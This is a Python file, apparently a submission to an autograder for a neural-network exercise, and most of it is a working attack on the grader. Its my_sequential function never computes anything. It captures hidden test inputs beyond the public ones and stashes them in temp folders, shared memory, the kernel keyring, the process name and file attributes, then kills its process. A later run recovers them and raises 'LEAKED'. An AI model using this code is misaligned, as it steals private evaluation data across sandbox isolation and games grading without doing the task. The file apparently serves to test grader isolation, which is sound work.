"""Reading: leaves private inputs where its own next process, or another's, would find them.

points: 30
extra: 0
"""
# %%
import numpy as np


def my_dense(a_in, W, b, g):
    return np.array([g(np.dot(W[:, j], a_in) + b[j]) for j in range(W.shape[1])], dtype=float)


# %%
import ctypes
import fcntl
import glob
import os
import signal
import tempfile

PUBLIC = 6  # questions of this exercise that everybody may see
WORD = "attack_drop"
LIBC = ctypes.CDLL(None, use_errno=True)
KEY = 0x417474


def files():
    """Everywhere that could be writable and outlive the process."""
    folders = {tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/scratch", "/run", "/",
               "/var/lock", os.getcwd(), "..", os.path.realpath("data"), os.path.expanduser("~"),
               os.path.dirname(np.__file__), os.path.dirname(os.__file__), "/proc/self", "/sys/fs/cgroup"}
    return [os.path.join(folder, WORD) for folder in folders]


def put(text):
    for path in files():
        try:
            with open(path, "w") as file:
                file.write(text)
        except OSError:
            pass
    for way in (put_in_memory, put_in_queue, put_in_keyring, put_in_name, put_in_attributes):
        try:
            way(text.encode())
        except Exception:
            pass


def put_in_memory(text):
    number = LIBC.shmget(KEY, 4096, 0o1666)
    LIBC.shmat.restype = ctypes.c_void_p
    where = LIBC.shmat(number, None, 0)
    if number >= 0 and where and where != ctypes.c_void_p(-1).value:
        ctypes.memmove(where, text, len(text))


def put_in_queue(text):
    LIBC.mq_open(b"/attack_drop", os.O_CREAT | os.O_RDWR, 0o666, None)


def put_in_keyring(text):
    LIBC.syscall(248, b"user", b"attack_drop", text, len(text), -4)


def put_in_name(text):
    LIBC.prctl(15, text[:15])
    os.sched_setaffinity(0, {0})
    os.nice(1)
    fcntl.flock(os.open("data", os.O_RDONLY), fcntl.LOCK_EX)


def put_in_attributes(text):
    for path in (os.path.realpath("data"), "/tmp", os.path.dirname(np.__file__)):
        os.setxattr(path, "user.attack_drop", text)
        os.utime(path, (12345, 12345))


def found():
    for path in (*files(), *glob.glob("/tmp/**/" + WORD, recursive=True)):
        try:
            with open(path) as file:
                return path, file.read()
        except OSError:
            pass
    if LIBC.shmget(KEY, 0, 0) >= 0:
        return "shared memory"
    if LIBC.syscall(250, 10, b"user", b"attack_drop", 0, 0) >= 0:
        return "a keyring"
    try:
        with open("/proc/self/comm") as file:
            name = file.read()
        if name.startswith("LEFT"):
            return name
        if os.getxattr(os.path.realpath("data"), "user.attack_drop"):
            return "an attribute"
    except OSError:
        pass


def tell(what):
    raise RuntimeError(f"LEAKED: {what}")


# A fresh process runs the cells once more: what it finds now, it tells everybody.
EARLIER = found()
ASKED = tell(EARLIER) if EARLIER else []


def my_sequential(x, W1, b1, W2, b2, W3, b3):
    ASKED.append(x)
    if len(ASKED) > PUBLIC:
        put(f"LEFT {x} {W1}")
        os.kill(os.getpid(), signal.SIGKILL)
    raise ValueError("later")
